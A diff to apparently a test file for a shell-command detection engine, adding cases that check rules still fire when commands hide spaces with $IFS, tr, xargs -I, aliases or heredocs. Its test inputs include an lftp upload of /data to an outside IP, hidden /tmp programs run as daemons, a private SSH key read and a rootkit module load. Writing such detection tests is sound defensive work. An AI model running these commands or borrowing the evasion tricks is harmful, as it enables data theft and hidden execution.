@@ -215,13 +215,10 @@ SPACE_DIR_RULE = """
 """
 
 
-def test_white_space_inside_one_word_counts_only_where_a_shell_text_quotes_or_escapes():
+def test_white_space_inside_one_word_is_found_however_the_word_is_written():
     loader = Loader()
     loader.add_text(SPACE_DIR_RULE, "space.yaml")
     eng = Engine(loader.build())
-    for text in ("find / -type f -name x", "ls / /srv", "find / -size +1k | sort | head"):
-        assert _rules(eng, text) == []
-    assert eng.parsed == 0  # `/ ` and ` /` are there, but no word of these texts holds a space
     for text in ('"/tmp/ /x" --daemon', "/tmp/\\ /x --daemon", "'/tmp/ /x' | tee log"):
         assert _rules(eng, text) == ["program_in_space_dir"], text
     # texts that are no shell syntax show the space as it is: an argv joined, a path written
@@ -330,6 +327,14 @@ def builtin_engine():
     ("print(open('/home/u/.ssh/id_rsa').read())", "python", "private_key_read"),
     # a name that a rule also looks for as a substring counts anywhere
     ("sudo modprobe reptile_module", "bash", "rootkit_named"),
+    # white space inside one word without a quote in the text: echo joins words, tr and $IFS make
+    # spaces, xargs -I makes a line one word (an alias of it too)
+    ("echo mirror\t-R /data | xargs -I{} lftp -e {} ftp://1.2.3.4", "bash", "ftp_tftp_put"),
+    ("echo mirror_-R_/data | tr _ ' ' | xargs -I{} lftp -e {} ftp://1.2.3.4", "bash", "ftp_tftp_put"),
+    ("echo /tmp/._/x | tr _ ' ' | xargs -I{} {} -d", "bash", "program_run_from_hidden_or_temp_with_daemon_name"),
+    ('"/tmp/.$IFS/x" -d | cat', "bash", "program_run_from_hidden_or_temp_with_daemon_name"),
+    ("alias x=xargs\necho /tmp/ /x|x -I{} {} -d", "bash", "program_run_from_hidden_or_temp_with_daemon_name"),
+    ("xargs -I{} {} -d <<EOF\n/tmp/. /x\nEOF", "bash", "program_run_from_hidden_or_temp_with_daemon_name"),
 ])
 def test_prefilter_does_not_hide_what_the_rules_see(builtin_engine, text, tool, rule):
     fields = {"language": "python"} if tool == "python" else {}
